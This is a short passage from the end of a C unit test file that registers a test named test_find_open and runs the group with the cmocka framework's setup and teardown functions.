        cmocka_unit_test(test_find_open),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
